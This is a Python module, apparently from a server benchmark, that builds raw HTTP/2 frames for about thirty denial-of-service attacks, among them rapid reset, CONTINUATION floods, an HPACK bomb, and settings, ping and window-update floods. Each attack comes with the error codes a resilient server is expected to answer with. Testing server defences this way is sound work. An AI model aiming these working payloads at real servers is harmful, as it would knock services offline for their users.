# SPDX-License-Identifier: MIT
"""The HTTP/2 attacks of `python -m bench attacks`: what each sends, as frames made by hand (RFC 9113, RFC 7541).

Called by `attacks` and tests/protocols/test_http2_attacks.py. Header blocks hold no reference to the dynamic table, but
for that of the HPACK bomb, so that every piece can be sent on a fresh connection.
"""

import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from bench.errors import BenchError

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = (
    0, 1, 2, 3, 4, 6, 7, 8, 9, 16,
)  # fmt: skip
END_STREAM, END_HEADERS, ACK, PADDED = 0x01, 0x04, 0x01, 0x08
FLOW_CONTROL_ERROR, STREAM_CLOSED, CANCEL, COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 3, 5, 8, 9, 11
FRAME_BYTES = 16_384

GET = b"\x82\x86\x84\x01\x09localhost"
POST = b"\x83\x86\x84\x01\x09localhost"
WAIT = b"\x83\x86\x04\x05/wait\x01\x09localhost"
"""A POST that the application never answers."""
LARGE = b"\x82\x86\x04\x06/large\x01\x09localhost"
WINDOW_BYTES, MOST_BYTES = 65_535, 2**31 - 1
"""What a window begins with, and the most that it may hold."""
RESET_LATER = 30
"""Requests between one and its reset: more than are sent at once."""
GRANT = 1 << 30
"""What the client lets the server send on the connection, so that answers never wait."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """The bytes of a frame."""
    return struct.pack("!IBI", len(payload) << 8 | kind, flags, stream) + payload


def number(prefix: int, bits: int, value: int) -> bytes:
    """An integer of RFC 7541 section 5.1 behind the bits of `prefix`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([prefix | value])
    found, value = [prefix | most], value - most
    while value >= 128:
        found.append(value & 127 | 128)
        value >>= 7
    return bytes([*found, value])


OPENING = PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", GRANT))


def honest_request(stream: int) -> bytes:
    """A GET of / on a stream."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: as given to --attacks.
        piece: the bytes of the piece with this number, from 0.
        frames: frames in a piece.
        opening: what comes once, after the preface.
        pieces: pieces that one connection is sent at most.
        codes: the codes of GOAWAY that a server may end it with.
        paced: whether a PING may come between two pieces.
    """

    name: str
    piece: Callable[[int], bytes]
    frames: int = 1
    opening: bytes = b""
    pieces: int = 20_000
    codes: tuple[int, ...] = (ENHANCE_YOUR_CALM,)
    paced: bool = True


def _reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack("!I", CANCEL))


def _window(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", increment))


def _open(stream: int, block: bytes = POST) -> bytes:
    """A request whose body is still to come."""
    return frame(HEADERS, END_HEADERS, stream, block)


def _rapid_reset(index: int) -> bytes:
    return honest_request(2 * index + 1) + _reset(2 * index + 1)


def _late_reset(index: int) -> bytes:
    """A request, and the reset of one whose application runs."""
    before = 2 * (index - RESET_LATER) + 1
    return _open(2 * index + 1, WAIT) + (_reset(before) if before > 0 else frame(PING, 0, 0, bytes(8)))


def _made_reset(index: int) -> bytes:
    return _open(2 * index + 1) + _window(2 * index + 1, 0)


def _made_reset_by_window(index: int) -> bytes:
    return _open(2 * index + 1) + _window(2 * index + 1, MOST_BYTES)


def _made_reset_by_data(index: int) -> bytes:
    return honest_request(2 * index + 1) + frame(DATA, 0, 2 * index + 1, b"x")


def _made_reset_by_length(index: int) -> bytes:
    """More body than the request's content-length (28 of the static table) says."""
    return _open(2 * index + 1, POST + b"\x0f\x0d\x011") + frame(DATA, 0, 2 * index + 1, b"xx")


def _malformed(index: int) -> bytes:
    """A request with a field name in upper case: the server resets the stream (section 8.2.1)."""
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET + b"\x00\x01X\x01x")


def _wide_list(index: int) -> bytes:
    """4,000 fields of four bytes each: 132,000 bytes as section 6.5.2 counts them."""
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET + b"\x00\x01a\x00" * 4000)


def _bomb(index: int) -> bytes:
    """A field of 3,900 bytes put into the table by the first request, and named 16,000 times by each."""
    stored = b"\x40\x01x" + number(0, 7, 3900) + b"a" * 3900 if index == 0 else b""
    block = GET + stored + b"\xbe" * (16_000 if index else 12_000)
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, block)


def _broken_block(index: int) -> bytes:
    """An index far beyond the table: the connection ends, and the attacker opens the next."""
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, GET + b"\xff\xff\x7f")


def _settings(_index: int) -> bytes:
    return frame(SETTINGS, 0, 0)


def _many_settings(index: int) -> bytes:
    """A frame full of settings that change the window of every stream to and fro."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", 4, 65_535 + (index + n) % 2) for n in range(2_000)))


def _priority(index: int) -> bytes:
    """A stream that depends on the one before it, and every second on itself."""
    stream = 2 * index + 1
    return frame(PRIORITY, 0, stream, struct.pack("!IB", stream if index % 2 else max(stream - 2, 0), 15))


def _priority_update(index: int) -> bytes:
    return frame(PRIORITY_UPDATE, 0, 0, struct.pack("!I", 2 * index + 1) + b"u=%d" % (index % 8))


OPENED = _open(1, WAIT)
CLOSED = OPENED + _reset(1)
FULL_FIELDS = (b"\x00\x01a" + number(0, 7, 250) + b"a" * 250) * 64
LONG_UPDATE = b"u=1;" * 4000

ATTACKS: tuple[Attack, ...] = (
    Attack("rapid-reset", _rapid_reset, frames=2),
    Attack("late-reset", _late_reset, frames=2),
    Attack("made-reset", _made_reset, frames=2),
    Attack("made-reset-window", _made_reset_by_window, frames=2),
    Attack("made-reset-data", _made_reset_by_data, frames=2),
    Attack("made-reset-length", _made_reset_by_length, frames=2),
    Attack("malformed", _malformed),
    Attack("streams", lambda index: _open(2 * index + 1, WAIT)),
    Attack(
        "continuation",
        lambda _: frame(CONTINUATION, 0, 1),
        opening=frame(HEADERS, 0, 1, GET),
        pieces=100,
        paced=False,
    ),
    Attack(
        "continuation-full",
        lambda _: frame(CONTINUATION, 0, 1, FULL_FIELDS),
        opening=frame(HEADERS, 0, 1, GET),
        pieces=12,
        paced=False,
    ),
    Attack("header-list", _wide_list, pieces=200),
    Attack("hpack-bomb", _bomb, pieces=200),
    Attack("hpack-broken", _broken_block, pieces=1, codes=(COMPRESSION_ERROR,)),
    Attack("settings", _settings),
    Attack("settings-full", _many_settings, pieces=500),
    Attack("settings-ack", lambda _: frame(SETTINGS, ACK, 0)),
    Attack(
        "settings-overflow",
        lambda _: frame(SETTINGS, 0, 0, struct.pack("!HI", 4, WINDOW_BYTES + 1)),
        opening=OPENED + _window(1, MOST_BYTES - WINDOW_BYTES),
        pieces=1,
        codes=(FLOW_CONTROL_ERROR,),
    ),
    Attack("ping", lambda index: frame(PING, 0, 0, struct.pack("!Q", index))),
    Attack("ping-ack", lambda index: frame(PING, ACK, 0, struct.pack("!Q", index))),
    Attack("goaway", lambda _: frame(GOAWAY, 0, 0, bytes(8)), opening=OPENED),
    Attack("priority", _priority),
    Attack("priority-update", _priority_update),
    Attack(
        "priority-update-full",
        lambda index: frame(PRIORITY_UPDATE, 0, 0, struct.pack("!I", 2 * index + 1) + LONG_UPDATE),
        pieces=1200,
    ),
    Attack("window-update", lambda _: _window(1, 1), opening=OPENED),
    Attack(
        "window-drip",
        lambda _: _window(1, 1),
        opening=frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0)) + frame(HEADERS, END_STREAM | END_HEADERS, 1, LARGE),
    ),
    Attack("empty-data", lambda _: frame(DATA, 0, 1), opening=OPENED),
    Attack("padding", lambda _: frame(DATA, PADDED, 1, b"\x10" + bytes(16)), opening=OPENED),
    Attack("closed-data", lambda _: frame(DATA, 0, 1, b"x"), opening=CLOSED, codes=(ENHANCE_YOUR_CALM, STREAM_CLOSED)),
    Attack("closed-reset", lambda _: _reset(1), opening=CLOSED),
    Attack("closed-window", lambda _: _window(1, 1), opening=CLOSED),
    Attack("unknown", lambda _: frame(0xEE, 0, 0)),
    Attack("unknown-full", lambda _: frame(0xEE, 0xFF, 1, bytes(FRAME_BYTES)), pieces=1200),
)


NO_ATTACK = Attack("connect", lambda index: frame(PING, 0, 0, struct.pack("!Q", index)), pieces=1)
"""A connection that is opened, asks for nothing and goes: what every attack costs that opens many."""


def choose_attacks(names: Sequence[str] | None) -> list[Attack]:
    """The attacks of these names, all for None.

    Raises:
        BenchError: a name is unknown.
    """
    known = {attack.name: attack for attack in ATTACKS}
    for name in names or ():
        if name not in known:
            raise BenchError(f"unknown attack {name!r}; known are {', '.join(known)}")
    return [known[name] for name in dict.fromkeys(names)] if names else list(ATTACKS)
